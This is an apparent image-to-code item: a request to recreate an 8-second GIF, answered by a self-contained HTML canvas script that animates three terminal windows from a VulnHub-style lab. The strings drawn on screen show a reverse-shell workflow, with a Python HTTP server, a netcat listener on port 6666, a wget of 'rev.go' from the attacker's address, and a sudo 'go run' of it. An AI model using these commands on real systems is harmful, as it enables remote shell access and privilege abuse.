
Write an HTML page with a canvas that moves like this. It is 1076 px wide and 521 px high and loops after 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Three terminals</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #24262b; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="1076" height="521"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 8000, TICK = 1000 / 15;
const CELL = 4.52, ROW = 10.25;
const MONO = '7.53px "Noto Sans Mono", monospace';
const SANS = '500 7.8px "Noto Sans", sans-serif';
const PATH = '~/vulnHub/Melodane-6.1/192.168.110.24/exploit/go';
const BRIGHT = { text: '#ffffff', typed: '#ffffff', blue: '#2472e8', red: '#d81c1c' };
const DIM = { text: '#dadada', typed: '#cccccc', blue: '#1f5bb5', red: '#b01717' };

const LEFT = { x: 3, y: 0, w: 537.5, textX: 3.6, titleX: 278.5, title: 'galistor@melodane6:/tmp 117x52' };
const TOP = { x: 543.5, y: 0, w: 533, textX: 544, titleX: 819, title: `tarn@kali: ${PATH} 117x25` };
const BOTTOM = { ...TOP, y: 272 };

// Pointer trips: first and last tick of the move, tick of hiding, from, to
const TRIPS = [
  { start: 0, end: 10, hide: 16, from: [685.4, 354.3], to: [720, 204.5] },
  { start: 37, end: 43, hide: 48, from: [720, 204.5], to: [750, 355] },
  { start: 63, end: 72, hide: 77, from: [750, 355], to: [370.8, 144.5] },
];
// Commands recalled at the left prompt
const RECALLS = [[0, ''], [79, 'ls'], [85, 'cat rev.go'], [95, 'ls'],
  [101, 'sudo /usr/local/go/bin/go run /tmp/rev.go'], [113, 'wget 192.168.110.4/rev.go']];

function rect(color, x, y, w, h) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

const rowY = (pane, row) => pane.y + 11 + row * ROW;
const colX = (pane, col) => pane.textX + col * CELL;

function print(pane, row, col, text, color, weight = 600) {
  ctx.font = `${weight} ${MONO}`;
  ctx.fillStyle = color;
  ctx.textAlign = 'left';
  [...text].forEach((c, i) => ctx.fillText(c, colX(pane, col + i), rowY(pane, row) + 7.6));
}

function caret(pane, row, col, active) {
  const x = Math.round(colX(pane, col)), y = Math.round(rowY(pane, row));
  if (active) return rect('#ffffff', x, y, 4.7, 10.6);
  ctx.strokeStyle = '#c4c4c4';
  ctx.lineWidth = 1;
  ctx.strokeRect(x + 0.5, y + 0.5, 4, 10);
}

function skull(x, y, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.ellipse(x, y - 0.6, 4, 3.6, 0, 0, 7);
  ctx.fill();
  ctx.fillRect(x - 2.3, y + 1.5, 4.6, 2.6);
  ctx.fillStyle = '#24262b';
  ctx.beginPath();
  for (const dx of [-1.7, 1.7]) ctx.ellipse(x + dx, y, 1.1, 1.1, 0, 0, 7);
  ctx.fill();
}

function prompt(pane, row, c) {
  const x = colX(pane, 0.5), y = rowY(pane, row) + 5.2;
  ctx.strokeStyle = c.blue;
  ctx.lineWidth = 1;
  ctx.beginPath();
  ctx.moveTo(colX(pane, 3), y);
  ctx.lineTo(x, y);
  ctx.lineTo(x, y + ROW);
  ctx.lineTo(colX(pane, 2), y + ROW);
  ctx.stroke();
  print(pane, row, 3, '(', c.blue);
  print(pane, row, 4, 'tarn', c.red, 700);
  skull(colX(pane, 9), y, c.text);
  print(pane, row, 10, 'kali', c.red, 700);
  print(pane, row, 14, ')-[', c.blue);
  print(pane, row, 17, PATH, c.text, 700);
  print(pane, row, 17 + PATH.length, ']', c.blue);
  print(pane, row + 1, 2, '#', c.red, 700);
}

function titleBar(pane, active) {
  rect(active ? '#2777ff' : '#23252e', pane.x, pane.y, pane.w, 11);
  ctx.font = SANS;
  ctx.textAlign = 'center';
  ctx.fillStyle = active ? '#e2e9f8' : '#eeeeee';
  ctx.fillText(pane.title, pane.titleX, pane.y + 8.3);
  const x = pane.x + 2.5, y = pane.y + 2.3;
  if (active) {
    rect('#20222a', x - 0.7, y - 0.8, 7.4, 7.6);
    rect('#e01b1b', x, y, 3, 3);
    rect('#e01b1b', x + 3.4, y + 3.4, 2.6, 2.6);
    rect('#ffffff', x + 3.6, y, 2.4, 2.6);
    rect('#ffffff', x + 0.4, y + 3.6, 2.4, 2.4);
  } else {
    rect('#d4d4d4', x, y, 2.7, 2.8);
    rect('#d4d4d4', x + 3.4, y, 2.7, 2.8);
    rect('#d4d4d4', x + 0.3, y + 3.6, 2.4, 2.4);
  }
}

function drawLeft(k, active) {
  const c = active ? BRIGHT : DIM;
  const command = RECALLS.filter(([tick]) => k >= tick).pop()[1];
  titleBar(LEFT, active);
  print(LEFT, 0, 0, '[galistor@melodane6 tmp]$ ' + command, c.text);
  const blinkedOff = k === 94 || (k >= 109 && k < 113);
  if (!blinkedOff) caret(LEFT, 0, 26 + command.length, active);
}

function drawTop(k, active) {
  const c = active ? BRIGHT : DIM;
  titleBar(TOP, active);
  prompt(TOP, 0, c);
  if (k < 16) return caret(TOP, 1, 4, active);
  if (k < 17) return caret(TOP, 2, 0, active);
  prompt(TOP, 2, c);
  if (k < 26) return caret(TOP, 3, 4, active);
  const command = 'python3 -m http.server 80';
  print(TOP, 3, 4, command, c.typed, 500);
  if (k < 34) return caret(TOP, 3, 4 + command.length, active);
  if (k < 35) return;
  if (k < 37) return caret(TOP, 4, 0, active);
  print(TOP, 4, 0, 'Serving HTTP on 0.0.0.0 port 80 (http://0.0.0.0:80/) ...', c.text);
  caret(TOP, 5, 0, active);
}

function drawBottom(k, active) {
  const c = active ? BRIGHT : DIM;
  titleBar(BOTTOM, active);
  prompt(BOTTOM, 0, c);
  if (k < 49) return caret(BOTTOM, 1, 4, active);
  const command = 'nc -vnlp 6666';
  print(BOTTOM, 1, 4, command, c.typed, 500);
  if (k < 57) return caret(BOTTOM, 1, 4 + command.length, active);
  if (k < 59) return;
  if (k < 60) return caret(BOTTOM, 2, 0, active);
  ['Ncat: Version 7.92 ( https://nmap.org/ncat )',
    'Ncat: Listening on :::6666',
    'Ncat: Listening on 0.0.0.0:6666'].forEach((line, i) => print(BOTTOM, 2 + i, 0, line, c.text));
  caret(BOTTOM, 5, 0, active);
}

function hand(x, y) {
  ctx.fillStyle = '#ffffff';
  ctx.strokeStyle = '#17181c';
  ctx.lineWidth = 0.4;
  ctx.beginPath();
  ctx.moveTo(x - 2.3, y + 1);
  ctx.lineTo(x - 2.3, y - 6);
  ctx.quadraticCurveTo(x - 1.2, y - 7.6, x - 0.2, y - 6);
  ctx.lineTo(x - 0.2, y - 2.6);
  ctx.lineTo(x + 3.6, y - 1.6);
  ctx.quadraticCurveTo(x + 4.7, y - 1, x + 4.5, y + 1);
  ctx.lineTo(x + 3.4, y + 6.4);
  ctx.lineTo(x - 1.6, y + 6.4);
  ctx.lineTo(x - 4.6, y + 1.4);
  ctx.quadraticCurveTo(x - 4, y - 0.6, x - 2.3, y + 1);
  ctx.fill();
  ctx.stroke();
}

function beam(x, y) {
  rect('#e6e6e6', x - 2.2, y - 5.4, 4.4, 2);
  rect('#e6e6e6', x - 2.2, y + 3.4, 4.4, 2);
  rect('#e6e6e6', x - 1.2, y - 4, 2.4, 8);
  rect('#24262b', x - 0.4, y - 4.4, 0.8, 8.8);
}

function pointer(k) {
  const trip = TRIPS.find(t => k >= t.start && k < t.hide);
  if (!trip || k === 37) return;
  const p = Math.min(1, (k - trip.start) / (trip.end - trip.start));
  const ease = p * p * (3 - 2 * p);
  const [x, y] = trip.from.map((v, i) => v + (trip.to[i] - v) * ease);
  (k < 1 ? hand : beam)(x, y);
}

function draw(t) {
  const k = Math.floor((t + 4) / TICK);
  const focus = k < 11 ? null : k < 44 ? TOP : k < 73 ? BOTTOM : LEFT;
  rect('#24262b', 0, 0, 1076, 521);
  rect('#252833', 534, 11, 6, 510);
  rect('#1f2128', 1, 0, 1, 521);
  rect('#1f2128', 541, 0, 2, 521);
  rect('#1f2128', 543, 268.5, 533, 2);
  rect('#555860', 535.5, 517, 3, 4);
  drawLeft(k, focus === LEFT);
  drawTop(k, focus === TOP);
  drawBottom(k, focus === BOTTOM);
  pointer(k);
}

ctx.textRendering = 'geometricPrecision';
const begin = performance.now();
function frame() {
  draw((performance.now() - begin) % LOOP);
  requestAnimationFrame(frame);
}
frame();
</script>
</body>
</html>
```
